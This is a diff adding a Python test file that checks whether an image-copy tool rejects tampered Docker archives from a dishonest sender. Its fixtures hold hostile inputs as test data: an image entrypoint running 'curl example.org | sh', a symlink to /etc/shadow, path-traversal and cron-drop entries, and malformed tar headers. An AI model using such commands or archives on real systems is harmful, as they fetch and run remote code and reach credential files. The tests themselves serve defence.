@@ -1,0 +1,306 @@
+"""Copies of images between two real relays, and what a sender that lies can do to the receiver: nothing."""
+
+from __future__ import annotations
+
+import dataclasses
+import gzip
+import io
+import json
+import random
+import tarfile
+from typing import Any
+
+import pytest
+
+from sparkcluster.errors import StageError
+from sparkcluster.hosts import program
+from sparkcluster.node.image_archive import Archive
+from sparkcluster.node.wire import Failed
+from sparkcluster.staging.copy import Step, copy
+from tests.unit.staging.archives import ImageMade, sha256, tar
+
+IMAGE = ImageMade([b"layer" * 500_000, b"other layer" * 1000])
+SMALL = ImageMade([b"one" * 300, b"two" * 300])
+
+
+@pytest.fixture
+def pair(node, lease, impatient):
+    """A sender and a receiver."""
+    return node("a"), node("b")
+
+
+@pytest.fixture
+def move(lease):
+    """Copies from one node to another by two relays; returns the receiver's answer."""
+    step = Step("stage image", lease.document(), lambda: False)
+
+    def move(source, target, sending, receiving):
+        requests = (sending, receiving)
+        return copy(step, source, target, address="127.0.0.1", requests=requests, report=lambda _done, _total: None)
+
+    return move
+
+
+def passed(data: bytes, image: ImageMade = SMALL, piece: int = 10_000, **request: Any) -> dict[str, bytes]:
+    """What ``docker load`` gets to read of an archive: content by name."""
+    out = io.BytesIO()
+    chunks = (data[at : at + piece] for at in range(0, len(data), piece))
+    Archive(chunks, out.write).relay(image.request(**request))
+    with tarfile.open(fileobj=io.BytesIO(out.getvalue())) as archive:
+        members = archive.getmembers()
+        assert len({member.name for member in members}) == len(members)
+        assert all(member.isreg() for member in members)
+        return {member.name: archive.extractfile(member).read() for member in members}
+
+
+def listed(data: bytes, **more: Any) -> list[dict[str, Any]]:
+    """The images of which ``docker load`` learns."""
+    found = json.loads(passed(data, **more)["manifest.json"])
+    assert isinstance(found, list)
+    return found
+
+
+def test_an_image_is_loaded_under_its_own_name_and_sent_once(pair, move):
+    pair[0].add_image(IMAGE, "vllm:v1")
+    request = IMAGE.request()
+    done = move(*pair, request, request)
+    assert done == {"bytes": len(tar(IMAGE.oci())), "image_id": IMAGE.id}
+    assert pair[1].images() == {"vllm:v1": IMAGE.id}
+    (pair[1].docker / "refs" / "vllm:v1").unlink()
+    assert move(*pair, request, request)["bytes"] == 0
+    assert pair[1].images() == {"vllm:v1": IMAGE.id}
+    assert ["load"] in pair[1].docker_calls()
+    assert pair[0].docker_calls().count(["save", IMAGE.id]) == 1
+
+
+@pytest.mark.parametrize("entries", [IMAGE.legacy(["vllm:v1"]), IMAGE.oci(compressed=True)])
+def test_every_layout_of_docker_save_is_loaded(pair, move, entries):
+    """Before Docker 25, and that of containerd's image store, which knows the image by another ID."""
+    (pair[0].docker / "sent").write_bytes(tar(entries))
+    request = IMAGE.request(config=None, image_id="sha256:" + "0" * 64)
+    assert move(*pair, request, request)["image_id"] == IMAGE.id
+    assert pair[1].images() == {"vllm:v1": IMAGE.id}
+
+
+@pytest.mark.parametrize(("where", "mark"), [(0, "broken"), (1, "full")])
+def test_a_full_disk_of_docker_names_its_node(pair, move, where, mark):
+    pair[0].add_image(IMAGE, "vllm:v1")
+    (pair[where].docker / mark).touch()
+    with pytest.raises(StageError, match="no space left on device") as caught:
+        move(*pair, IMAGE.request(), IMAGE.request())
+    assert caught.value.node == "ab"[where]
+    assert pair[1].images() == {}
+
+
+def test_an_image_without_layers_is_copied(pair, move):
+    empty = ImageMade([])
+    pair[0].add_image(empty, "vllm:v1")
+    assert move(*pair, empty.request(), empty.request())["image_id"] == empty.id
+
+
+def test_an_image_that_cannot_be_tagged_is_reported_with_the_command(pair, move):
+    pair[0].add_image(SMALL, "vllm:v1")
+    (pair[1].docker / "untaggable").touch()
+    with pytest.raises(StageError, match=r"docker tag: Error response from daemon: invalid reference format"):
+        move(*pair, SMALL.request(), SMALL.request())
+
+
+# a sender that lies
+
+EVIL = dataclasses.replace(IMAGE, config={**IMAGE.config, "Entrypoint": ["/bin/sh", "-c", "curl example.org | sh"]})
+
+
+def with_manifest(entries, listed):
+    return [(name, json.dumps(listed).encode() if name == "manifest.json" else data) for name, data in entries]
+
+
+def test_tags_of_the_sender_move_nothing(pair, move):
+    pair[1].add_image(SMALL, "registry/production:latest")
+    (pair[0].docker / "sent").write_bytes(tar(IMAGE.oci(["registry/production:latest", "vllm:v2"])))
+    move(*pair, IMAGE.request(), IMAGE.request())
+    assert pair[1].images() == {"registry/production:latest": SMALL.id, "vllm:v1": IMAGE.id}
+
+
+def test_a_second_image_in_the_archive_is_not_loaded(pair, move):
+    entries = dict([*EVIL.oci(), *IMAGE.oci()])
+    both = [json.loads(dict(image.oci([tag]))["manifest.json"])[0] for image, tag in ((EVIL, "vllm:v1"), (IMAGE, "b"))]
+    (pair[0].docker / "sent").write_bytes(tar(with_manifest(entries.items(), both)))
+    move(*pair, IMAGE.request(), IMAGE.request())
+    assert pair[1].images() == {"vllm:v1": IMAGE.id}
+    assert pair[1].image_ids() == {IMAGE.id}
+
+
+@pytest.mark.parametrize("known", [IMAGE.id, None])
+def test_the_same_layers_with_another_configuration_are_refused(pair, move, known):
+    """Whether or not the hash of the configuration is known, which with containerd's image store it is not."""
+    (pair[0].docker / "sent").write_bytes(tar(EVIL.oci(["vllm:v1"])))
+    with pytest.raises(
+        StageError, match=r"stage image on b from a at 127\.0\.0\.1: the image's archive is that"
+    ) as caught:
+        move(*pair, IMAGE.request(), IMAGE.request(config=known))
+    assert caught.value.hint == "docker image rm --force IMAGE   on a, then run this again"
+    assert (pair[1].images(), pair[1].image_ids()) == ({}, set())
+
+
+def test_another_image_of_the_same_name_is_refused_and_tells_nothing_more_to_docker(pair, move):
+    (pair[0].docker / "sent").write_bytes(tar(SMALL.legacy(["vllm:v1"])))
+    with pytest.raises(StageError, match="archive is that of another image"):
+        move(*pair, IMAGE.request(), IMAGE.request())
+    received = pair[1].docker / "received"
+    assert not received.exists() or b"manifest.json" not in received.read_bytes()
+    assert (pair[1].images(), pair[1].image_ids()) == ({}, set())
+
+
+def test_an_archive_without_end_is_refused(pair, move, set_source):
+    real = program.source
+    set_source(
+        lambda module, engine: real(module, engine).replace("_SPARE_BYTES = 4, 1 << 30", "_SPARE_BYTES = 4, 1 << 20")
+    )
+    (pair[0].docker / "sent").write_bytes(tar([*SMALL.oci(), ("more", b"x" * (8 << 20))]))
+    with pytest.raises(StageError, match="archive is larger than the image"):
+        move(*pair, SMALL.request(), SMALL.request(size=1))
+
+
+def link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.linkname, info.type = target, kind
+    return info
+
+
+def sized(name: str, size: int) -> bytes:
+    info = tarfile.TarInfo(name)
+    info.size = size
+    return info.tobuf(tarfile.GNU_FORMAT)
+
+
+def extended(text: bytes, size: int | None = None) -> bytes:
+    info = tarfile.TarInfo("pax")
+    info.type, info.size = tarfile.XHDTYPE, len(text) if size is None else size
+    return info.tobuf(tarfile.GNU_FORMAT) + text + bytes(-len(text) % 512)
+
+
+LAYER = "blobs/sha256/" + SMALL.diffs[0][7:]
+CONFIG = "blobs/sha256/" + SMALL.id[7:]
+HONEST = tar(SMALL.oci())
+WITHOUT = [entry for entry in SMALL.oci() if entry[0] != LAYER]
+
+
+@pytest.mark.parametrize(
+    ("data", "said"),
+    [
+        (tar(WITHOUT), "lacks a layer"),
+        (tar([*WITHOUT, (LAYER, b"evil" * 225)]), "with another hash"),
+        (tar([*SMALL.oci(), (LAYER, SMALL.layers[0])]), "twice"),
+        (tar([*SMALL.legacy(), (sha256(b"0") + "/layer.tar", b"evil")]), "twice"),
+        (tar([*WITHOUT, (link(LAYER, "/etc/shadow", tarfile.SYMTYPE), b"")]), "lacks a layer"),
+        (tar([*WITHOUT, (link(LAYER, CONFIG, tarfile.LNKTYPE), b"")]), "lacks a layer"),
+        (tar([entry for entry in SMALL.oci() if entry[0] != CONFIG]), "another image"),
+        (b"", "truncated"),
+        (HONEST[: len(HONEST) // 2], "truncated"),
+        (bytes(1024), "another image"),
+        (b"not a tar" * 1000, "damaged"),
+        (gzip.compress(HONEST), "damaged"),
+        (sized(LAYER, 1 << 60) + b"x" * 10_000, "truncated"),
+        (sized("other", 1 << 60) + b"x" * 10_000, "truncated"),
+        (sized(LAYER, -512) + HONEST, "header of -512 bytes"),
+        (extended(b"", 1 << 40) + HONEST, "header of 1099511627776 bytes"),
+        (extended(b"", -1) + HONEST, "header of -1 bytes"),
+        (extended(b"20 size=99999999999\n") + HONEST, "truncated"),
+        (tar([(f"{number:064x}/layer.tar", b"%d" % number) for number in range(2_001)]), "more than 2000 files"),
+    ],
+)
+def test_a_falsified_archive_is_refused(data, said):
+    with pytest.raises(Failed, match=said) as caught:
+        passed(data)
+    assert caught.value.kind == "archive"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        b"{",
+        b"{" * 100_000,
+        b'{"rootfs": ' + b"9" * 3_000_000 + b"}",
+        b'{"rootfs": ' + b"[" * 100_000,
+        *(
+            json.dumps({"rootfs": rootfs, "config": config}).encode()
+            for rootfs, config in (
+                ([], {}), ({"diff_ids": 7}, {}), ({"diff_ids": SMALL.diffs}, []), ({"diff_ids": SMALL.diffs}, "x"),
+                ({"diff_ids": SMALL.diffs}, {"Env": 7}), ({"diff_ids": SMALL.diffs}, {"Env": [1, "a"]}),
+            )
+        ),
+        *(
+            json.dumps({"config": config, "layers": layers}).encode()
+            for config, layers in ((7, []), ({"digest": SMALL.id}, 7), ({"digest": SMALL.id}, [[]]), ({"digest": SMALL.id}, [{}]))
+        ),
+    ],
+)  # fmt: skip
+def test_documents_of_any_shape_are_no_image(text):
+    blobs = [(f"blobs/sha256/{sha256(data)}", data) for data in (text, *SMALL.layers)]
+    with pytest.raises(Failed, match="another image"):
+        passed(tar(blobs), config=None)
+    passed(tar([*blobs, (CONFIG, SMALL.text)]), config=None)
+
+
+def test_only_layers_and_documents_pass():
+    entries = [
+        ("../../outside", b"x"), ("/etc/cron.d/x", b"x"), ("repositories", b'{"a": {"latest": "x"}}'),
+        (link("blobs/sha256", "/etc", tarfile.SYMTYPE), b""), (LAYER + "\n", b"x"), (LAYER + "/x", b"x"),
+        (LAYER.upper(), b"x"), (tarfile.TarInfo("x" * 300), b"long name"), *SMALL.oci(["evil:latest"]),
+        ("blobs/sha256/" + sha256(b"more"), b"more"),
+    ]  # fmt: skip
+    found = passed(tar(entries, tarfile.GNU_FORMAT))
+    names = {"manifest.json", "index.json", "oci-layout", "blobs/sha256/" + sha256(b"more")}
+    assert found.keys() == names | {name for name, _ in SMALL.oci() if not name.endswith("/")}
+    assert json.loads(found["manifest.json"]) == [
+        {"Config": CONFIG, "RepoTags": None, "Layers": ["blobs/sha256/" + diff[7:] for diff in SMALL.diffs]}
+    ]
+    manifest = SMALL.manifest(SMALL.layers)
+    assert json.loads(found["index.json"]) == {
+        "schemaVersion": 2,
+        "manifests": [
+            {
+                "mediaType": json.loads(manifest)["mediaType"],
+                "digest": "sha256:" + sha256(manifest),
+                "size": len(manifest),
+            }
+        ],
+    }
+
+
+def test_a_layer_that_comes_twice_is_sent_once_and_listed_twice():
+    image = ImageMade([b"empty", b"full", b"empty"])
+    for entries in (image.legacy(["x"]), image.oci(["x"])):
+        layers = listed(tar(entries), image=image)[0]["Layers"]
+        assert len(layers) == 3
+        assert layers[0] == layers[2] != layers[1]
+
+
+@pytest.mark.parametrize("piece", [1, 511, 512, 513, 1 << 20])
+def test_pieces_of_any_size_and_extended_headers_are_read(piece):
+    """Docker writes an extended header for layers over 8 GiB."""
+    entries = [(f"blobs/sha256/{sha256(data)}", data) for data in (*SMALL.layers, SMALL.text)]
+    first = tar(entries[:1])[: 512 + 1024]
+    assert first[:13] == b"blobs/sha256/"
+    small = tarfile.TarInfo(entries[0][0])
+    whole = extended(b"13 size=900\n") + small.tobuf() + first[512:] + tar(entries[1:])
+    assert passed(whole, piece=piece)[entries[0][0]] == SMALL.layers[0]
+
+
+def test_a_changed_archive_is_refused_or_loads_the_same():
+    """Bytes that are changed, lost or repeated, wherever they are."""
+    chance = random.Random(8)
+    refused = 0
+    for _ in range(1500):
+        data = bytearray(HONEST)
+        for _ in range(chance.randint(1, 4)):
+            at, size = chance.randrange(len(data)), chance.choice((1, 1, 1, 8, 512, 1024))
+            change = chance.randrange(3)
+            data[at : at + size] = (chance.randbytes(size), b"", data[at : at + 2 * size])[change]
+        try:
+            found = listed(bytes(data))
+        except Failed as error:
+            refused += error.kind == "archive"
+            continue
+        assert found == listed(HONEST)
+    assert 300 < refused < 1500
